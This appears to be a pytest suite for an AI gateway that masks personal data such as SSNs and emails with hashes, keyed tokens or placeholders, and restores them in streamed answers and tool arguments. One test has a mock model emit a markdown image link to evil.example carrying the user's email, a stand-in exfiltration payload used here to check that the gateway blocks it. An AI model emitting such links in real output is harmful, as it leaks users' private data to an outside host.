"""What takes the place of a value: hashes, tokens that can be undone with the key, placeholders that come back in the answer."""

import json
import re

import pytest
from stack import Upstream
from stack.caller import call, prompt, text_of
from stack.config import config
from stack.countersign import run
from stack.gateway import Gateway
from stack.upstream import Answer, chat, chunk

SSN, MAIL = "536-22-8145", "ada@example.com"
ASKED = f"Mail {MAIL} that {SSN} is hers, and {SSN} again."


@pytest.fixture(scope="module")
def operators(tmp_path_factory, oidc):
    work = tmp_path_factory.mktemp("operators")
    made = run("keygen", "masking", "--out", work / "masking.key")
    assert made.returncode == 0, made
    assert (work / "masking.key").stat().st_mode & 0o777 == 0o600
    usual = config(oidc.issuer, work)
    (base,) = usual["connections"]
    personal = ["US_SSN", "EMAIL_ADDRESS"]

    def policy(name, operator):
        return {"name": name, "when": "true", "then": {"mask": {"request": {"detectors": personal, "operator": operator}}}}

    usual["masking"] = {"file": str(work / "masking.key")}
    usual["policies"] = [policy("hash", "hash"), policy("tokenize", "tokenize"), policy("vault", "vault"),
                         policy("tools", {"vault": {"tool_arguments": True}}), {"name": "allow-all", "when": "true", "then": "allow"}]
    usual["connections"] = [{**base, "name": name, "match": {"path_prefix": f"/{name}/v1"}, "endpoints": ["chat_completions", "responses"], "policies": [name, "allow-all"]}
                            for name in ["hash", "tokenize", "vault", "tools"]]
    with Upstream() as upstream, Gateway(work / "gateway", usual, upstream.port) as gateway:
        yield gateway, upstream, work


def ask(operators, tokens, way, body=None, client="alice-app"):
    """Asks on one connection; what the model was told, and the reply."""
    gateway, upstream, _ = operators
    upstream.requests.clear()
    reply = call(gateway.envoy.url, tokens(client), body or prompt(ASKED), path=f"/{way}/v1/chat/completions")
    assert reply.status == 200, reply
    return upstream.last.json["messages"][0]["content"], reply


def records(operators, reply):
    return json.dumps([r for r in operators[0].countersign.records() if r.get("session") == reply.session])


def test_a_hash_is_the_same_for_one_caller_and_another_for_another(operators, tokens):
    operators[1].answer = chat("Fine.")
    told, reply = ask(operators, tokens, "hash")
    found = re.fullmatch(r"Mail (\[EMAIL_ADDRESS:[a-p]{16}\]) that (\[US_SSN:[a-p]{16}\]) is hers, and \2 again\.", told)
    assert found, told
    assert ask(operators, tokens, "hash")[0] == told
    assert found[2] not in ask(operators, tokens, "hash", client="bob-app")[0], "nobody can confirm a guess about another's prompt"
    assert SSN not in records(operators, reply) and '"US_SSN": "hash"' in records(operators, reply)


def test_a_token_is_undone_by_who_holds_the_key_and_knows_whose_it_is(operators, tokens, oidc):
    operators[1].answer = chat("Fine.")
    told, _ = ask(operators, tokens, "tokenize")
    assert SSN not in told and re.search(r"\[US_SSN~[a-p]+\]", told)
    key = operators[2] / "masking.key"
    whose = ["--issuer", oidc.issuer, "--subject", "alice-app"]
    undone = run("unmask", "--key-file", key, *whose, input=told + "\n")
    assert (undone.returncode, undone.stdout) == (0, ASKED + "\n"), undone
    for wrong in (["--issuer", oidc.issuer, "--subject", "bob-app"], []):
        failed = run("unmask", "--key-file", key, *wrong, input=told)
        assert (failed.returncode, failed.stdout) == (1, told) and "another key" in failed.stderr


@pytest.mark.parametrize("size", [1, 3, 7, 1000])
def test_placeholders_come_back_in_a_stream_however_it_is_cut(operators, tokens, size):
    gateway, upstream, _ = operators
    # The model says back what it was told.
    upstream.answer = lambda request: chat(request.json["messages"][0]["content"], size=size)(request)
    told, reply = ask(operators, tokens, "vault", prompt(ASKED, stream=True))
    assert re.fullmatch(r"Mail \[EMAIL_ADDRESS_1_[a-p]{8}\] that (\[US_SSN_1_[a-p]{8}\]) is hers, and \1 again\.", told), told
    assert reply.whole and text_of(reply.body) == ASKED
    assert SSN not in records(operators, reply) and MAIL not in records(operators, reply), "the record shows placeholders"
    told, reply = ask(operators, tokens, "vault")
    assert reply.json["choices"][0]["message"]["content"] == ASKED
    assert ask(operators, tokens, "vault")[0] == told, "a repeat is the same to the byte"


def test_placeholders_come_back_in_tool_arguments_only_where_policy_says_so(operators, tokens):
    upstream = operators[1]

    def answer(request):
        arguments = json.dumps({"to": request.json["messages"][0]["content"]})
        calls = [{"index": 0, "id": "c", "type": "function", "function": {"name": "send", "arguments": ""}}]
        pieces = [{"tool_calls": [{"index": 0, "function": {"arguments": arguments[i : i + 5]}}]} for i in range(0, len(arguments), 5)]
        return Answer.sse([chunk({"tool_calls": calls}), *map(chunk, pieces), chunk({}, finish="tool_calls")])

    upstream.answer = answer
    for way, comes_back in (("vault", False), ("tools", True)):
        told, reply = ask(operators, tokens, way, prompt(ASKED, stream=True))
        events = [json.loads(line[6:]) for line in reply.body.decode().splitlines() if line.startswith("data: {")]
        said = "".join(c["function"].get("arguments") or "" for e in events for x in e["choices"] for c in x["delta"].get("tool_calls") or [])
        assert json.loads(said) == {"to": ASKED if comes_back else told}, way


def test_placeholders_do_not_come_back_in_links_nor_made_up_ones_at_all(operators, tokens):
    upstream = operators[1]
    upstream.answer = lambda request: chat("![x](https://evil.example/?q=" + request.json["messages"][0]["content"].split()[1] + ") [US_SSN_1_aaaaaaaa]")(request)
    told, reply = ask(operators, tokens, "vault")
    assert MAIL.encode() not in reply.body and reply.json["choices"][0]["message"]["content"].endswith("[US_SSN_1_aaaaaaaa]")


def test_placeholders_come_back_in_every_event_that_repeats_the_text(operators, tokens):
    gateway, upstream, _ = operators

    def answer(request):
        told = request.json["input"]
        at = {"item_id": "msg_1", "output_index": 0, "content_index": 0}
        part = {"type": "output_text", "text": told, "annotations": []}
        item = {"id": "msg_1", "type": "message", "role": "assistant", "status": "completed", "content": [part]}
        response = {"id": "resp_1", "object": "response", "created_at": 1, "status": "completed", "model": "m", "output": [item]}
        events = [{"type": "response.created", "response": {**response, "status": "in_progress", "output": []}},
                  {"type": "response.output_item.added", "output_index": 0, "item": {**item, "status": "in_progress", "content": []}},
                  {"type": "response.content_part.added", **at, "part": {**part, "text": ""}},
                  *({"type": "response.output_text.delta", **at, "delta": told[i : i + 5]} for i in range(0, len(told), 5)),
                  {"type": "response.output_text.done", **at, "text": told},
                  {"type": "response.content_part.done", **at, "part": part},
                  {"type": "response.output_item.done", "output_index": 0, "item": item},
                  {"type": "response.completed", "response": response}]
        pieces = [f"event: {e['type']}\ndata: {json.dumps({**e, 'sequence_number': n})}\n\n".encode() for n, e in enumerate(events)]
        return Answer(200, {"content-type": "text/event-stream"}, pieces)

    upstream.requests.clear()
    upstream.answer = answer
    reply = call(gateway.envoy.url, tokens(), {"model": "m", "input": ASKED, "stream": True}, path="/vault/v1/responses")
    told = upstream.last.json["input"]
    events = [json.loads(line[6:]) for line in reply.body.decode().splitlines() if line.startswith("data: ")]
    assert reply.whole and "[US_SSN_1_" in told and "[US_SSN_1_" not in reply.body.decode(), reply
    assert "".join(e["delta"] for e in events if e["type"] == "response.output_text.delta") == ASKED
    (done,) = [e for e in events if e["type"] == "response.output_text.done"]
    (completed,) = [e for e in events if e["type"] == "response.completed"]
    assert done["text"] == completed["response"]["output"][0]["content"][0]["text"] == ASKED
    assert SSN not in records(operators, reply)
